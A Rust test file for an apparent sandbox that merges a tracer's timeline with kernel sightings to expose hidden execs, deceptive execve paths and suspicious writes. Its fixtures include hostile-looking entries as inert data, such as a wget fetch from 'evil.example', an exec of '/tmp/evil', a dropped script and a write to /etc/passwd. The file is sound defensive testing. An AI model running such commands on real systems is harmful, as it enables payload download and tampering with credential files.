use postern_model::sandbox::{Kind, Part};

use super::*;
use crate::native::{SURROUNDINGS, office};

fn report(timeline: Vec<Event>) -> Report {
    let part = Part { inside: None, name: "a.sh".into(), kind: Kind::Script, size: 1, hash: [0; 32] };
    Report { parts: vec![part], timeline, ..Report::default() }
}

fn event(at: u32, action: Action, text: &str, detail: &str) -> Event {
    Event::new(at, 0, action, text, detail)
}

fn saw(ms: u64, what: Sight) -> Sighting {
    Sighting { at: 1_000_000_000 + ms * 1_000_000, process: 7, thread: 7, name: "sh".into(), what }
}

fn call(name: &str, text: &str) -> Sight {
    Sight::Call { name: name.into(), arguments: [0, 4096, 0, 0, 0, 0], text: text.into(), more: String::new() }
}

fn exec(path: &str) -> Sight {
    Sight::Exec { path: path.into() }
}

/// The timeline of a program: what its tracer told, and what was seen.
fn merged(told: &[(u32, Action, &str, &str)], seen: Vec<Sighting>) -> Report {
    let begin = event(2, Action::Begin, "/home/user/a.sh", SURROUNDINGS);
    let told = told.iter().map(|(at, action, text, detail)| event(*at, *action, text, detail));
    let mut report = report([begin].into_iter().chain(told).chain([event(50, Action::End, "/home/user/a.sh", "code 0")]).collect());
    into(&mut report, Ok(Seen { sightings: seen, lost: 3, partly: None }), true);
    report
}

fn texts(report: &Report) -> Vec<&str> {
    report.timeline.iter().map(|e| e.text.as_str()).collect()
}

#[test]
fn what_the_tracer_told_is_not_told_again() {
    let told = [
        (5, Action::Start, "/bin/rm -f /tmp/x", ""),
        (6, Action::Move, "/tmp/x", "removed"),
        (7, Action::Move, "/tmp/a", "to /tmp/b"),
        (8, Action::Connect, "192.0.2.7:80", ""),
        (9, Action::Write, "/tmp/y", ""),
        (10, Action::Refused, "ptrace", ""),
        (11, Action::Call, "wget -q http://evil.example/", "not on this machine"),
    ];
    let rename = Sight::Call { name: "rename".into(), arguments: [0; 6], text: "a".into(), more: "/tmp/b".into() };
    let seen = vec![
        saw(0, exec("/bin/sh")),
        saw(3, call("execve", "/bin/rm")),
        saw(3, exec("/bin/rm")),
        saw(4, call("unlinkat", "./x")),
        saw(5, rename),
        saw(6, Sight::Connect { address: "192.0.2.7:80".into() }),
        saw(6, Sight::Connect { address: "198.18.0.1:53".into() }),
        saw(7, Sight::Write { path: "/tmp/y".into() }),
        saw(7, Sight::Write { path: "/dev/null".into() }),
        saw(8, call("ptrace", "")),
        saw(9, call("execve", "/usr/local/bin/wget")),
        saw(9, call("execve", "/usr/bin/wget")),
    ];
    let report = merged(&told, seen);
    assert_eq!(report.timeline.len(), told.len() + 2, "{:#?}", report.timeline);
    assert_eq!(report.watch, Watched { cells: 1, seen: 12, lost: 3, ..Watched::default() });
}

#[test]
fn what_it_did_not_tell_stands_in_its_place_with_who_did_it() {
    let told = [(5, Action::Start, "/bin/a", ""), (9, Action::Write, "/tmp/late", "")];
    let report =
        merged(&told, vec![saw(0, exec("/bin/sh")), saw(5, exec("/tmp/hidden")), saw(90, call("mmap", "")), saw(5, call("setuid", ""))]);
    assert_eq!(
        texts(&report),
        [
            "/home/user/a.sh",
            "/bin/a",
            "/tmp/hidden",
            "setuid 0",
            "/tmp/late",
            "mmap: memory that can be run, 4096 octets",
            "/home/user/a.sh"
        ]
    );
    assert_eq!((report.timeline[2].at, report.timeline[2].detail.as_str()), (7, "seen by the kernel: sh [7]"));
    assert!(report.findings.iter().any(|f| f.name == FindingName::NativeStarts && f.evidence == "/tmp/hidden"));
}

#[test]
fn memory_that_names_something_else_than_the_kernel_took_is_a_deceit() {
    let seen = vec![
        saw(0, exec("/bin/sh")),
        saw(1, call("execve", "/bin/true")),
        saw(1, exec("/tmp/evil")),
        saw(2, call("connect", "192.0.2.1:80")),
        saw(2, Sight::Connect { address: "192.0.2.1:80".into() }),
        // Not in memory yet when it was looked at.
        saw(3, call("execve", "")),
        saw(3, exec("/bin/ls")),
    ];
    let report = merged(&[], seen);
    let deceits: Vec<_> = report.findings.iter().filter(|f| f.name == FindingName::NativeDeceives).map(|f| f.evidence.as_str()).collect();
    assert_eq!(deceits, ["execve: it named /bin/true, and the kernel took /tmp/evil"]);
}

#[test]
fn of_a_document_what_libreoffice_does_for_itself_is_not_told() {
    const DOCUMENT: &str = "/home/user/a.odt";
    const SETTING: &str = "/work/office/user/extensions/shared/extensions.pmap";
    let written: fn(&str) -> Sight = |path| Sight::Write { path: path.into() };
    // Where the kernel says of a file alone that it was asked for.
    let asked: fn(&str) -> Sight = |path| call("openat", path);
    for write in [written, asked] {
        let mut told = report(vec![event(2, Action::Begin, DOCUMENT, office::SURROUNDINGS), event(50, Action::End, DOCUMENT, "code 0")]);
        let seen = vec![
            saw(0, exec("/usr/lib/libreoffice/program/soffice.bin")),
            saw(1, write(SETTING)),
            saw(1, call("mprotect", "")),
            saw(2, write(DOCUMENT)),
            saw(3, write("/home/user/.~lock.a.odt#")),
            saw(3, exec("/bin/sh")),
            saw(4, write("/work/office/tmp/aB3dEf")),
            saw(5, write("/tmp/dropped.sh")),
            saw(5, write("/etc/passwd")),
            saw(6, exec("/bin/sh")),
            saw(7, write(SETTING)),
        ];
        into(&mut told, Ok(Seen { sightings: seen, ..Seen::default() }), true);
        let texts: Vec<&str> = texts(&told).into_iter().map(|text| text.trim_start_matches("openat ")).collect();
        assert_eq!(texts, [DOCUMENT, "/tmp/dropped.sh", "/etc/passwd", "/bin/sh", SETTING, DOCUMENT]);
    }
}

#[test]
fn whatever_is_seen_in_a_cell_for_reading_broke_it() {
    let mut taken = report(Vec::new());
    into(&mut taken, Ok(Seen { sightings: vec![saw(0, call("socket", "")), saw(4, call("ptrace", ""))], ..Seen::default() }), false);
    assert_eq!(texts(&taken), ["socket", "ptrace"]);
    assert_eq!(taken.findings, [Finding::new(FindingName::CellBroken, 0, "socket: no dissector does that")]);
    let mut quiet = report(Vec::new());
    into(&mut quiet, Ok(Seen::default()), false);
    assert_eq!((quiet.timeline.len(), quiet.findings.len(), quiet.watch.cells), (0, 0, 1));
    into(&mut quiet, Err("edge is away".into()), false);
    assert_eq!(quiet.watch, Watched { without: Some("edge is away".into()), ..Watched::default() });
}

#[test]
fn a_full_timeline_takes_no_more() {
    let told: Vec<(u32, Action, String)> = (0..EVENTS_MOST as u32 - 3).map(|n| (n, Action::Write, format!("/tmp/{n}"))).collect();
    let told: Vec<_> = told.iter().map(|(at, action, text)| (*at, *action, text.as_str(), "")).collect();
    let report = merged(&told, (0..10).map(|n| saw(n, Sight::Write { path: format!("/home/{n}") })).collect());
    assert!(report.timeline.len() == EVENTS_MOST && report.is_sound());
    assert_eq!(report.timeline.last().map(|e| e.action), Some(Action::End));
}
